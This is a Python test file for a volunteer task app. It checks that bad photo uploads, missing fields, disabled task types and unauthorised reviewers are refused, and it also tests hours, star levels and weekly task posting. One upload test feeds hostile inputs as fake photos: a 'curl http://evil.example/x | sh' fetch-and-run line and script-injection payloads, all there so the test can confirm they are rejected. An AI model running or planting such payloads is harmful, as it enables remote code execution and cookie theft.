"""Tasks fed bad input, through core's functions: photos that are too big,
broken or not photos at all, the wrong number of photos, missing extra
fields, work for tasks one may not submit for, types a station switched off,
decisions by people who may not decide. Each refusal leaves nothing behind:
no submission, no photo row, no file, no points. Also: service hours and
star levels, and tasks posted from a weekly pattern.
"""

import os
from datetime import date, datetime, timedelta
from io import BytesIO
from pathlib import Path

import pytest
from PIL import ExifTags, Image

from core.models import (
    LedgerEntry,
    Review,
    Signup,
    Submission,
    SubmissionPhoto,
    SubmissionState,
    Task,
    TaskSeries,
    User,
    utcnow,
)
from core.photos import thumbnail_path
from core.tasks import TaskError
from core.tasks.hours import star_level, summary
from core.tasks.posting import MAX_OCCURRENCES, WeeklyPatternSchema, post_weekly, upcoming_tasks
from core.tasks.review import decide
from core.tasks.signups import sign_up
from core.tasks.submissions import load_submission, submit
from core.testing import write_station
from tests.points_helpers import station
from tests.tasks_helpers import make_task, officer, photo_bytes, volunteer

SUBMITTED_AT = datetime(2031, 3, 4, 23, 30)  # UTC: already 5 March in Kunming


@pytest.fixture
def redarmband_plugins():
    return []  # core's task types only


@pytest.fixture
def redarmband_stations_dir(tmp_path):
    directory = tmp_path / "stations"
    directory.mkdir()
    write_station(directory, "alpha", extra="[tasks]\nmax_photo_mb = 1\n")
    write_station(directory, "beta")
    write_station(directory, "gamma", extra='[tasks]\ndisabled = ["patrol"]\nstar_hours = [1, 2, 3, 4, 5]\n')
    return directory


@pytest.fixture
def ctx(app):
    with app.app_context():
        yield app


def uploaded_files(app):
    root = Path(app.instance_path) / "uploads"
    return sorted(path for path in root.rglob("*") if path.is_file()) if root.exists() else []


def assert_nothing_stored(app):
    assert Submission.select().count() == 0, "a submission row was stored"
    assert SubmissionPhoto.select().count() == 0, "a photo row was stored"
    assert uploaded_files(app) == [], "a file was left under uploads/"
    assert LedgerEntry.select().count() == 0, "points were booked"


def patrol(app, slug, vol, photos, *, text="巡查护国路", now=SUBMITTED_AT, **raw):
    """Self-started work of core's ``patrol`` type (1 to 9 photos)."""
    data = load_submission({"type": raw.pop("type", "patrol"), "text": text, **raw})
    return submit(station(app, slug), vol, data, photos, now=now)


def refused(call, status, *, code="invalid_input"):
    with pytest.raises(TaskError) as error:
        call()
    assert (error.value.status, error.value.code) == (status, code), error.value.message
    return error.value


def noise_png(side):
    """A PNG of random pixels: it compresses to about 3 bytes a pixel."""
    return _encoded(Image.frombytes("RGB", (side, side), os.urandom(side * side * 3)), "PNG")


def _encoded(image, fmt, **kwargs):
    buffer = BytesIO()
    image.save(buffer, fmt, **kwargs)
    return buffer.getvalue()


# ---------------------------------------------------------------------------
# Photos
# ---------------------------------------------------------------------------


def test_a_photo_over_the_stations_limit_is_refused(ctx):
    big = noise_png(800)
    assert 1024 * 1024 < len(big) < 5 * 1024 * 1024
    error = refused(lambda: patrol(ctx, "alpha", volunteer(ctx, "alpha"), [big]), 400)
    assert list(error.fields) == ["photos"]
    assert "photo 1" in error.fields["photos"][0] and "1 MB" in error.fields["photos"][0]
    assert_nothing_stored(ctx)
    # the same photo is fine at a station with the default limit (5 MB)
    assert patrol(ctx, "beta", volunteer(ctx, "beta"), [big]).state == SubmissionState.PENDING


def test_a_truncated_jpeg_is_refused(ctx):
    whole = _encoded(Image.frombytes("RGB", (320, 240), os.urandom(320 * 240 * 3)), "JPEG", quality=95)
    error = refused(lambda: patrol(ctx, "beta", volunteer(ctx, "beta"), [whole[: len(whole) // 2]]), 400)
    assert "photo 1" in error.fields["photos"][0] and "not a photo" in error.fields["photos"][0]
    assert_nothing_stored(ctx)


@pytest.mark.parametrize(
    "content",
    [
        b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
        b"<script>alert(document.cookie)</script>",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b"",
    ],
    ids=["shell", "html", "svg", "empty"],
)
def test_a_file_that_is_not_a_photo_is_refused_whatever_it_is_called(ctx, content):
    # the domain sees bytes only; a name ending in .jpg changes nothing
    error = refused(lambda: patrol(ctx, "beta", volunteer(ctx, "beta"), [content]), 400)
    assert "not a photo" in error.fields["photos"][0]
    assert_nothing_stored(ctx)


def test_a_gif_is_not_an_accepted_format(ctx):
    gif = _encoded(Image.new("RGB", (16, 16), (1, 2, 3)), "GIF")
    error = refused(lambda: patrol(ctx, "beta", volunteer(ctx, "beta"), [gif]), 400)
    assert "JPEG, PNG or WebP" in error.fields["photos"][0]
    assert_nothing_stored(ctx)


def test_one_bad_photo_among_good_ones_leaves_no_file_behind(ctx):
    good = photo_bytes()
    error = refused(lambda: patrol(ctx, "beta", volunteer(ctx, "beta"), [good, good, b"not a photo"]), 400)
    assert "photo 3" in error.fields["photos"][0]
    assert_nothing_stored(ctx)


@pytest.mark.parametrize("fmt", ["PNG", "WEBP"])
def test_png_and_webp_are_accepted_and_stored_as_jpeg(ctx, fmt):
    submission = patrol(ctx, "beta", volunteer(ctx, "beta"), [photo_bytes(fmt=fmt, size=(200, 100))])
    [photo] = submission.photos
    with Image.open(Path(ctx.instance_path) / "uploads" / photo.path) as stored:
        assert stored.format == "JPEG" and stored.size == (200, 100)


def test_gps_and_other_exif_are_stripped_from_a_stored_photo(ctx):
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PoliceCam"
    exif[ExifTags.Base.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (25.0, 2.0, 30.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (102.0, 42.0, 0.0),
    }
    sent = photo_bytes(size=(800, 600), exif=exif)
    with Image.open(BytesIO(sent)) as original:  # the test photo does carry a position
        assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] == (25.0, 2.0, 30.0)

    submission = patrol(ctx, "beta", volunteer(ctx, "beta"), [sent])
    [photo] = submission.photos
    stored_path = Path(ctx.instance_path) / "uploads" / photo.path
    for path in (stored_path, thumbnail_path(stored_path)):
        raw = path.read_bytes()
        assert b"Exif" not in raw and b"PoliceCam" not in raw
        with Image.open(path) as stored:
            assert dict(stored.getexif()) == {}
            assert stored.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}
            assert "exif" not in stored.info


def test_photos_are_stored_by_station_and_local_date_with_a_thumbnail(ctx):
    submission = patrol(ctx, "beta", volunteer(ctx, "beta"), [photo_bytes(size=(800, 600)), photo_bytes(fmt="PNG")])
    photos = list(submission.photos.order_by(SubmissionPhoto.position))
    assert [p.position for p in photos] == [1, 2]
    uploads = Path(ctx.instance_path) / "uploads"
    day = uploads / "beta" / "submissions" / "2031" / "03" / "05"  # Kunming's date, not UTC's 4 March
    for photo in photos:
        path = uploads / photo.path
        assert path.parent == day and path.suffix == ".jpg"
        assert path.is_file() and thumbnail_path(path).is_file()
    assert len({p.path for p in photos}) == 2
    with Image.open(thumbnail_path(uploads / photos[0].path)) as thumbnail:
        assert thumbnail.size == (320, 240)
    assert sorted(uploaded_files(ctx)) == sorted(
        [uploads / p.path for p in photos] + [thumbnail_path(uploads / p.path) for p in photos]
    )


@pytest.mark.parametrize(
    "type_key, count, wanted",
    [
        ("patrol", 0, "1 to 9"),
        ("patrol", 10, "1 to 9"),
        ("illegal_posters", 1, "2 to 9"),
    ],
)
def test_too_few_or_too_many_photos_are_refused(ctx, type_key, count, wanted):
    vol = volunteer(ctx, "beta")
    error = refused(lambda: patrol(ctx, "beta", vol, [photo_bytes()] * count, type=type_key), 400)
    assert error.fields == {"photos": [f"{type_key!r} work needs {wanted} photos; got {count}"]}
    assert_nothing_stored(ctx)


# ---------------------------------------------------------------------------
# Fields, tasks and stations
# ---------------------------------------------------------------------------


def test_a_missing_required_extra_field_is_named(ctx):
    vol = volunteer(ctx, "beta")

    def call():
        return patrol(ctx, "beta", vol, [photo_bytes()], type="business_info", fields={"address": "护国路 3 号"})

    error = refused(call, 400)
    assert list(error.fields) == ["fields.business_name"]
    assert_nothing_stored(ctx)


def test_extra_fields_for_a_type_without_any_are_refused(ctx):
    error = refused(lambda: patrol(ctx, "beta", volunteer(ctx, "beta"), [photo_bytes()], fields={"colour": "red"}), 400)
    assert list(error.fields) == ["fields"]
    assert_nothing_stored(ctx)


def test_work_for_a_task_not_signed_up_for_is_refused(ctx):
    task = make_task(ctx, "beta", type_key="patrol")
    data = load_submission({"task_id": task.id, "text": "巡查"})

    def call():
        return submit(
            station(ctx, "beta"),
            volunteer(ctx, "beta"),
            data,
            [photo_bytes()],
            now=task.starts_at + timedelta(minutes=10),
        )

    refused(call, 409, code="not_signed_up")
    assert_nothing_stored(ctx)


def test_work_for_another_stations_task_is_not_found(ctx):
    task = make_task(ctx, "alpha", type_key="patrol")
    data = load_submission({"task_id": task.id, "text": "巡查"})

    def call():
        return submit(
            station(ctx, "beta"),
            volunteer(ctx, "beta"),
            data,
            [photo_bytes()],
            now=task.starts_at + timedelta(minutes=10),
        )

    refused(call, 404, code="not_found")
    assert_nothing_stored(ctx)


def test_a_type_switched_off_in_the_station_config_is_not_offered(ctx):
    gamma = station(ctx, "gamma")
    keys = [task_type.key for task_type in gamma.task_types]
    assert "patrol" not in keys and "traffic_guiding" in keys
    assert "patrol" in [task_type.key for task_type in station(ctx, "beta").task_types]
    boss, vol = officer(ctx, "gamma"), volunteer(ctx, "gamma")

    posting = refused(lambda: make_task(ctx, "gamma", by=boss, type_key="patrol"), 400)
    assert list(posting.fields) == ["type"] and "'patrol'" in posting.fields["type"][0]
    self_started = refused(lambda: patrol(ctx, "gamma", vol, [photo_bytes()]), 400)
    assert list(self_started.fields) == ["type"]
    assert_nothing_stored(ctx)

    # a task of that type posted before it was switched off: hidden, closed to sign-ups and work
    now = utcnow()
    old = Task.create(
        station=gamma.id,
        type_key="patrol",
        title="巡查",
        place="甲路",
        starts_at=now + timedelta(hours=1),
        ends_at=now + timedelta(hours=2),
        capacity=3,
        created_by=boss.id,
    )
    assert old.id not in [task.id for task in upcoming_tasks(gamma)]
    refused(lambda: sign_up(gamma, vol, old.id), 404, code="not_found")
    Signup.create(station=gamma.id, task=old.id, volunteer=vol.id)  # signed up while it was on
    data = load_submission({"task_id": old.id, "text": "巡查"})
    refused(lambda: submit(gamma, vol, data, [photo_bytes()], now=old.starts_at + timedelta(minutes=5)), 400)
    assert_nothing_stored(ctx)


def test_staff_cannot_submit_work(ctx):
    refused(lambda: patrol(ctx, "beta", officer(ctx, "beta"), [photo_bytes()]), 403, code="volunteers_only")
    assert_nothing_stored(ctx)


def test_a_volunteer_cannot_decide_and_nor_can_another_stations_officer(ctx):
    beta = station(ctx, "beta")
    vol = volunteer(ctx, "beta")
    submission = patrol(ctx, "beta", vol, [photo_bytes()])
    refused(lambda: decide(beta, volunteer(ctx, "beta"), submission.id, "approve"), 403, code="staff_only")
    refused(lambda: decide(beta, vol, submission.id, "approve"), 403, code="staff_only")  # not even their own
    refused(lambda: decide(beta, officer(ctx, "alpha"), submission.id, "approve"), 403, code="staff_only")
    # an officer of another station, at their own station: the submission is not there
    refused(
        lambda: decide(station(ctx, "alpha"), officer(ctx, "alpha"), submission.id, "approve"), 404, code="not_found"
    )
    stored = Submission.get_by_id(submission.id)
    assert stored.state == SubmissionState.PENDING and stored.decided_by_id is None
    assert Review.select().count() == 0 and LedgerEntry.select().count() == 0
    assert User.get_by_id(vol.id).points_balance == 0


# ---------------------------------------------------------------------------
# Service hours and star levels
# ---------------------------------------------------------------------------


def _self_started(app, slug, vol, type_key, hours, end):
    start = end - timedelta(hours=hours)
    return patrol(
        app,
        slug,
        vol,
        [photo_bytes()],
        type=type_key,
        now=end,
        started_at=start.isoformat() + "+00:00",
        ended_at=end.isoformat() + "+00:00",
    )


def test_approved_minutes_reach_the_default_star_levels(ctx):
    beta = station(ctx, "beta")
    boss, vol = officer(ctx, "beta"), volunteer(ctx, "beta")
    end = utcnow() - timedelta(days=10)
    for day in range(4):
        submission = _self_started(ctx, "beta", vol, "patrol", 20, end + timedelta(days=day))
        decided, _ = decide(beta, boss, submission.id, "approve")
        assert decided.minutes == 20 * 60
    pending = _self_started(ctx, "beta", vol, "patrol", 5, end + timedelta(days=5))  # not approved: does not count
    hours = summary(beta, vol)
    assert (hours.minutes, hours.star, hours.next_star_hours) == (80 * 60, 0, 100)

    short = _self_started(ctx, "beta", vol, "traffic_guiding", 20, end + timedelta(days=6))
    decide(beta, boss, short.id, "approve", hours=19.99, reason="提前离岗")
    hours = summary(beta, vol)
    assert (hours.minutes, hours.star) == (100 * 60 - 1, 0)  # one minute short of ★1

    last = _self_started(ctx, "beta", vol, "traffic_guiding", 1, end + timedelta(days=7))
    decide(beta, boss, last.id, "approve", hours=1 / 60, reason="只算一分钟")
    hours = summary(beta, vol)
    assert (hours.minutes, hours.hours, hours.star, hours.next_star_hours) == (6000, 100.0, 1, 300)
    assert hours.by_type == [
        {"type_key": "patrol", "count": 4, "minutes": 4800},
        {"type_key": "traffic_guiding", "count": 2, "minutes": 1200},
    ]
    assert Submission.get_by_id(pending.id).state == SubmissionState.PENDING
    assert [star_level(beta, h * 60) for h in (99, 100, 299, 300, 600, 1000, 1499, 1500, 9999)] == [
        0,
        1,
        1,
        2,
        3,
        4,
        4,
        5,
        5,
    ]


def test_star_levels_follow_the_stations_star_hours(ctx):
    gamma = station(ctx, "gamma")  # star_hours = [1, 2, 3, 4, 5]
    assert gamma.config.tasks.star_hours == (1, 2, 3, 4, 5)
    boss, vol = officer(ctx, "gamma"), volunteer(ctx, "gamma")
    end = utcnow() - timedelta(days=3)
    first = _self_started(ctx, "gamma", vol, "traffic_guiding", 2, end)
    decide(gamma, boss, first.id, "approve")
    hours = summary(gamma, vol)
    assert (hours.minutes, hours.star, hours.next_star_hours) == (120, 2, 3)
    second = _self_started(ctx, "gamma", vol, "traffic_guiding", 3, end + timedelta(days=1))
    decide(gamma, boss, second.id, "approve")
    hours = summary(gamma, vol)
    assert (hours.minutes, hours.star, hours.next_star_hours) == (300, 5, None)
    # the same 5 hours are no star at all with the national thresholds
    assert star_level(station(ctx, "beta"), 300) == 0


# ---------------------------------------------------------------------------
# Weekly patterns
# ---------------------------------------------------------------------------

MONDAY = date(2030, 9, 2)
BEFORE = datetime(2030, 8, 1)  # "now" for posting: every date is still to come


def weekly(**overrides):
    body = {
        "type": "traffic_guiding",
        "title": "上学高峰护学",
        "place": "长春小学正门",
        "capacity": 4,
        "weekdays": [1, 2, 3, 4, 5],
        "start_time": "07:30",
        "end_time": "08:30",
        "first_date": MONDAY.isoformat(),
        "last_date": (MONDAY + timedelta(days=13)).isoformat(),
    }
    body.update(overrides)
    return WeeklyPatternSchema().load(body)


def test_a_school_week_pattern_gives_ten_tasks_at_half_past_eleven_utc_the_day_before(ctx):
    beta = station(ctx, "beta")
    series, tasks = post_weekly(beta, officer(ctx, "beta"), weekly(), now=BEFORE)
    school_days = [MONDAY + timedelta(days=d) for d in range(14) if (MONDAY + timedelta(days=d)).isoweekday() <= 5]
    assert len(tasks) == 10 and series.weekdays == "12345"
    assert [task.starts_at for task in tasks] == [
        datetime.combine(d - timedelta(days=1), datetime.min.time()).replace(hour=23, minute=30) for d in school_days
    ]
    assert all(task.ends_at - task.starts_at == timedelta(hours=1) for task in tasks)
    assert all(task.series_id == series.id and task.capacity == 4 and task.taken == 0 for task in tasks)


def test_skip_dates_are_left_out(ctx):
    wednesday, next_friday = MONDAY + timedelta(days=2), MONDAY + timedelta(days=11)
    _series, tasks = post_weekly(
        station(ctx, "beta"),
        officer(ctx, "beta"),
        weekly(skip_dates=[wednesday.isoformat(), next_friday.isoformat()]),
        now=BEFORE,
    )
    local_days = [(task.starts_at + timedelta(hours=8)).date() for task in tasks]
    assert len(tasks) == 8 and wednesday not in local_days and next_friday not in local_days


def test_an_overnight_shift_ends_the_next_day(ctx):
    friday = MONDAY + timedelta(days=4)
    _series, tasks = post_weekly(
        station(ctx, "beta"),
        officer(ctx, "beta"),
        weekly(weekdays=[5], start_time="20:00", end_time="02:00"),
        now=BEFORE,
    )
    assert len(tasks) == 2
    first = tasks[0]
    assert first.starts_at == datetime(2030, 9, 6, 12, 0)  # 20:00 on Friday in Kunming
    assert first.ends_at == datetime(2030, 9, 6, 18, 0)  # 02:00 on Saturday in Kunming
    assert (first.ends_at + timedelta(hours=8)).date() == friday + timedelta(days=1)


def test_a_pattern_giving_too_many_tasks_is_refused(ctx):
    body = weekly(weekdays=[1, 2, 3, 4, 5, 6, 7], last_date=(MONDAY + timedelta(days=MAX_OCCURRENCES + 9)).isoformat())
    error = refused(lambda: post_weekly(station(ctx, "beta"), officer(ctx, "beta"), body, now=BEFORE), 400)
    assert list(error.fields) == ["last_date"] and f"at most {MAX_OCCURRENCES}" in error.fields["last_date"][0]
    assert Task.select().count() == 0 and TaskSeries.select().count() == 0
